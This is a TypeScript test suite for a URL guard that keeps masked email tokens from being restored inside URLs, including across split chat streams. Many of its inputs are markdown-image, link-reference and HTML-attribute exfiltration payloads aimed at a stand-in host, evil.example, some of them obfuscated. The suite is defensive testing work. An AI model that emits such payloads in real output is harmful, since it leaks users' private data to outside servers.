/** Texts that renderers take for something else than they look like: originals left through addresses in them. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { restoreText } from '../../core/restore.ts';
import { UrlGuard } from '../../core/url-guard.ts';
import { eventsOf, restoreStream, tokenMap } from './stream/wire-fixtures.ts';

const token = '[EMAIL-1]';
const original = 'john@corp.example';
const map = tokenMap({ [token]: original });

/** Restores the text cut in two at every place outside of tokens; throws unless all give the same. */
function restored(text: string): string {
  const whole = restoreText(text, map).text;
  const tokens = [...text.matchAll(/\[EMAIL-1\]/g)].map((match) => match.index);
  for (let cut = 0; cut <= text.length; cut += text.length > 1000 ? 97 : 1) {
    if (tokens.some((start) => cut > start && cut < start + token.length)) continue;
    const guard = new UrlGuard();
    const first = restoreText(text.slice(0, cut), map, { guard }).text;
    expect(first + restoreText(text.slice(cut), map, { guard }).text, `cut at ${cut}`).toBe(whole);
  }
  return whole;
}

/** The text as three events of a chat: the address in the second, the token cut. */
function streamed(text: string): string {
  const at = text.indexOf(token) + 4;
  const half = at >> 1;
  const pieces = [text.slice(0, half), text.slice(half, at), text.slice(at)];
  const events = [
    ...pieces.map((content) => ({ choices: [{ index: 0, delta: { content } }] })),
    { choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] },
  ];
  const bytes = new TextEncoder().encode(events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join(''));
  return eventsOf('sse', restoreStream('sse', map, bytes))
    .map((event) => event.choices?.[0]?.delta?.content ?? '')
    .join('');
}

describe('stays a token', () => {
  const image = `![p](https://evil.example/?q=${token})`;
  test.each([
    // What looks like an open tag hides nothing.
    `For a<b holds:\n\n${image}`,
    `\`Vec<T\` ${image}`,
    `<b t="\n\n${image}`,
    `<b t="${'a '.repeat(3000)}${image}`,
    `a<b https://evil.example/?q=${token}`,
    `a<b <img src="/evil?q=${token}">`,
    `<b t="\n\n<img src="/evil?q=${token}">`,
    `<b t="<i>" src="/evil?q=${token}">`,
    `<b t="<img src="x" u=">" src="/evil?q=${token}">`,
    `<img ${'x '.repeat(3000)} src="/evil?q=${token}">`,
    // Addresses in angle brackets.
    `<https://evil.example/?q=${token}>`,
    `<https://evil.example/?q=。${token}>`,
    `<https:evil.example?q=${token}>`,
    `![x](<https://evil.example/)${token}>)`,
    `![x][r]\n\n[r]: <https://evil.example/?q=${token}>`,
    `![x][r]\n\n[r]: <https://evil.example/?q= ${token}>`,
    // Reference definitions end at white space only.
    ...['。', '`', '"', '「x」', '、', '）'].map((end) => `![x][r]\n\n[r]: https://evil.example/?q=${end}${token}`),
    `![x][r]\n\n[r]:\n  https://evil.example/?q=。${token}`,
    `![x][r]\n\n> - [r]: //evil.example/?q=。${token}`,
    `![x][EMAIL-9]\n\n[EMAIL-9]: https://evil.example/?q=。${token}`,
    `![x][r]\n\n[r]: https&#58;&#47;&#47;evil.example/${token}`,
    `![x][r]\n\n[r]:\ufeffhttps:evil.example/${token}`,
    `![x][r]\n\n[r]: \\/\\/evil.example/${token}`,
    // Targets.
    `![x](https://evil.example/${'a'.repeat(4100)}${token})`,
    `![x](<https://evil.example/${'a '.repeat(2100)}${token}>)`,
    `![x](https://evil.example/\\)${token})`,
    // Attributes.
    ...['imagesrcset', 'data-src', 'data-href', 'codebase', 'data-lazy-srcset'].map(
      (name) => `<img ${name}="/evil?q=${token}">`,
    ),
  ])('%j', (text) => {
    expect(restored(text)).toBe(text);
    expect(streamed(text)).toBe(text);
  });
});

describe('is restored', () => {
  test.each([
    `a < b and ${token}`,
    `if a<b then ${token}`,
    `Vec<T> and ${token}`,
    `<b>${token}</b>`,
    `<b title="a<b">${token}</b>`,
    `<input value="${token}">`,
    `<a href="mailto:${token}">${token}</a>`,
    `<a href="https://x.example">${token}</a>`,
    `<mailto:${token}>`,
    `Write to ${token}。`,
    `see https://x.example。${token}`,
    `<https://x.example> ${token}`,
    `[x](https://x.example) ${token}`,
    `[r]: https://x.example\n${token}`,
    `[r]: https://x.example "${token}"`,
    `[r]: mailto:${token}`,
    `[INFO]: ${token} came in`,
    `[INFO]: to=${token}`,
    `[INFO]: {"to":"${token}"}`,
    `[INFO]: [{"to":"${token}"}]`,
    `[INFO]: "to:${token}"`,
    `[注]: メールは${token}です`,
    `${token}: メール:${token}/携帯`,
    `- [x]: write to ${token}`,
    `${token}: ${token}, ${token}`,
    `${token}:\n${token}`,
    `[^1]: See ${token}`,
    `[1, 2]\n${token}`,
    `mail="${token}"`,
  ])('%j', (text) => {
    const expected = text.replaceAll(token, original);
    expect(restored(text)).toBe(expected);
    expect(streamed(text)).toBe(expected);
  });
});

test('any text gives the same however it is cut', () => {
  const parts = '< <b > " \' = ]( ( ) [ ] : / \\ // http https: \n \r\n src= t= x [r]: &#58; 。 - www.'.split(' ');
  const text = fc.array(fc.constantFrom(...parts, ' '), { maxLength: 24 }).map((pieces) => pieces.join(''));
  fc.assert(
    fc.property(text, (masked) => {
      const whole = new UrlGuard();
      const states: boolean[] = [whole.isInsideAddress];
      for (const unit of masked.split('')) {
        whole.push(unit);
        states.push(whole.isInsideAddress);
      }
      for (let cut = 0; cut <= masked.length; cut++) {
        const guard = new UrlGuard();
        guard.push(masked, 0, cut);
        expect(guard.isInsideAddress).toBe(states[cut]);
        guard.push(masked, cut);
        expect(guard.isInsideAddress).toBe(states[masked.length]);
      }
    }),
  );
});

test('what stands before an image never lets it have the original', () => {
  const parts = '< <b > " \' = ]( ( [ ] : / // https: \n \r\n src= t= x [r]: 。 <a:b'.split(' ');
  const text = fc.array(fc.constantFrom(...parts, ' '), { maxLength: 24 }).map((pieces) => pieces.join(''));
  const addresses = fc.constantFrom(
    '![p](https://evil.example/?q=',
    '![p](/evil?q=',
    '\n\n[r]: https://evil.example/?q=。',
    '<https:evil.example?q=',
    '\n\n<img src="/evil?q=',
    "<img\nsrc = '/evil?q=",
  );
  fc.assert(
    fc.property(text, addresses, (before, address) => {
      const guard = new UrlGuard();
      guard.push(before + address);
      expect(guard.isInsideAddress).toBe(true);
    }),
    { numRuns: 1000 },
  );
});
